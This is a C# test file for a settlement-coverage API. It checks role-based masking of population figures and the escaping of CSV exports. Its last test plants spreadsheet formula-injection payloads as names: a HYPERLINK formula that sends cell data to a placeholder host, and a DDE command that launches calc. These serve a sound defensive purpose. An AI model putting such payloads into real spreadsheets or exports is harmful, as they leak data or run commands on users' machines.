using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using SettlementMap.Tests.Infrastructure;
using SettlementMap.Web.Data;
using static SettlementMap.Tests.Coverage.Overlay;

namespace SettlementMap.Tests.Coverage;

/// <summary>
/// The gap tables on the demo data: estimated inhabitants follow the viewer's clearance like every other output,
/// the public view's generalised settlements stay out of the sums (each test sets the levels it needs), and the CSV
/// is safe to open in a spreadsheet.
/// </summary>
public sealed class CoverageGapsDemoTests(AppFixture app) : IClassFixture<AppFixture>
{
    private const string Url = "/api/coverage/gaps?kind=health_mediator";

    private async Task SetAsync(string inhabitantsLevel, bool generalise)
    {
        await using var db = app.CreateContext();
        await db.Database.ExecuteSqlRawAsync(
            """
            INSERT INTO attribute_levels (attribute, level, changed_by) VALUES ('estimated_inhabitants', {0}, 'test')
            ON CONFLICT (attribute) DO UPDATE SET level = EXCLUDED.level
            """, inhabitantsLevel);
        await db.Database.ExecuteSqlRawAsync("UPDATE disclosure_settings SET generalise_small = {0}", generalise);
    }

    /// <summary>Per municipality code, the estimated inhabitants of the settlements that count (null when none is known).</summary>
    private async Task<Dictionary<string, long?>> SumsAsync(Func<int?, bool> counts)
    {
        await using var db = app.CreateContext();
        var settlements = await db.Settlements.Select(s => new { s.Municipality!.Code, s.EstimatedInhabitants }).ToListAsync();
        return settlements.GroupBy(s => s.Code).ToDictionary(g => g.Key, g =>
        {
            var known = g.Where(s => s.EstimatedInhabitants is not null && counts(s.EstimatedInhabitants)).ToList();
            return known.Count == 0 ? (long?)null : known.Sum(s => (long)s.EstimatedInhabitants!.Value);
        }, StringComparer.Ordinal);
    }

    private static Dictionary<string, JsonElement> ByCode(JsonElement table) =>
        table.GetProperty("municipalities").EnumerateArray().ToDictionary(r => r.GetProperty("code").GetString()!, StringComparer.Ordinal);

    [Fact]
    public async Task Inhabitants_restricted_to_administrators_are_absent_for_anonymous_masked_for_a_coordinator_and_whole_for_an_administrator()
    {
        await SetAsync("administrators", generalise: false);
        var all = await SumsAsync(_ => true);

        using var anonymous = await Restricted.ClientAsync(app, "anonymous");
        var anonymousJson = await anonymous.GetStringAsync(new Uri(Url, UriKind.Relative));
        Assert.DoesNotContain("estimated_inhabitants", anonymousJson, StringComparison.Ordinal);
        var anonymousTable = JsonSerializer.Deserialize<JsonElement>(anonymousJson);
        Assert.NotEmpty(ByCode(anonymousTable));
        var csv = await anonymous.GetStringAsync(new Uri(Url + "&format=csv", UriKind.Relative));
        Assert.Equal("Municipality,District,Settlements,Missing,Municipality code", csv.TrimStart('\uFEFF').Split("\r\n")[0]);
        // No number of the hidden column either: a row is name, district, settlements, missing, code.
        Assert.All(csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries), line => Assert.Equal(5, line.Split(',').Length));

        using var coordinator = await Restricted.ClientAsync(app, "coordinator");
        var coordinatorRows = ByCode(await GetOkAsync(coordinator, Url));
        Assert.True(coordinatorRows.ContainsKey("nis"), "Niš has no health mediator in the demo data");
        Assert.Equal(all["nis"], coordinatorRows["nis"].GetProperty("estimated_inhabitants").GetInt64());
        Assert.All(coordinatorRows.Where(r => r.Key != "nis"), r => Assert.Equal(JsonValueKind.Null, r.Value.GetProperty("estimated_inhabitants").ValueKind));

        using var administrator = await Restricted.ClientAsync(app, "administrator");
        var administratorTable = await GetOkAsync(administrator, Url);
        Assert.Equal(ByCode(anonymousTable).Keys.Order(), ByCode(administratorTable).Keys.Order());
        Assert.All(ByCode(administratorTable), r => Assert.Equal(all[r.Key], r.Value.GetProperty("estimated_inhabitants").GetInt64()));
    }

    [Fact]
    public async Task The_public_view_sums_only_the_settlements_it_sees_unless_generalised_and_agrees_with_the_figures()
    {
        await SetAsync("public", generalise: true);
        // The threshold is the migration's default: fewer than 100 (or unknown) is generalised.
        var visible = await SumsAsync(i => i >= 100);
        var all = await SumsAsync(_ => true);

        using var anonymous = await Restricted.ClientAsync(app, "anonymous");
        var rows = ByCode(await GetOkAsync(anonymous, Url));
        Assert.All(rows, r => Assert.Equal(visible[r.Key], r.Value.GetProperty("estimated_inhabitants").ValueKind == JsonValueKind.Null
            ? null : r.Value.GetProperty("estimated_inhabitants").GetInt64()));
        Assert.Contains(rows, r => visible[r.Key] != all[r.Key]);
        var figure = FigureOf(await GetOkAsync(anonymous, "/api/coverage/figures"), "health_mediator");
        Assert.Equal(figure.PopulationNotCovered, rows.Sum(r => visible[r.Key] ?? 0));
        Assert.Equal(figure.MunicipalitiesNotCovered, rows.Count);

        using var administrator = await Restricted.ClientAsync(app, "administrator");
        Assert.All(ByCode(await GetOkAsync(administrator, Url)), r => Assert.Equal(all[r.Key], r.Value.GetProperty("estimated_inhabitants").GetInt64()));
    }

    [Fact]
    public async Task Csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text()
    {
        await using (var db = app.CreateContext())
        {
            var youth = await db.Programmes.SingleAsync(p => p.Code == "undp_youth");
            youth.NameEn = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
            var municipality = await db.Municipalities.SingleAsync(m => m.Code == "vrsac");
            municipality.NameLatn = "@SUM(1+1)";
            var district = await db.Districts.SingleAsync(d => d.Id == municipality.DistrictId);
            district.NameEn = "+cmd|' /C calc'!A0";
            await db.SaveChangesAsync();
        }
        using var client = app.Factory.CreateClient();
        var csv = await client.GetStringAsync(new Uri("/api/coverage/gaps?kind=programme:undp_youth&format=csv&lang=en", UriKind.Relative));
        var vrsac = csv.Split("\r\n").Single(l => l.EndsWith(",vrsac", StringComparison.Ordinal));
        Assert.StartsWith("'@SUM(1+1),'+cmd|' /C calc'!A0,", vrsac, StringComparison.Ordinal);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\",vrsac", vrsac, StringComparison.Ordinal);
        // No cell of any line starts a formula.
        Assert.DoesNotMatch(new System.Text.RegularExpressions.Regex(@"(^|,)""?[=+@-]", System.Text.RegularExpressions.RegexOptions.Multiline), csv.TrimStart('\uFEFF'));
    }
}
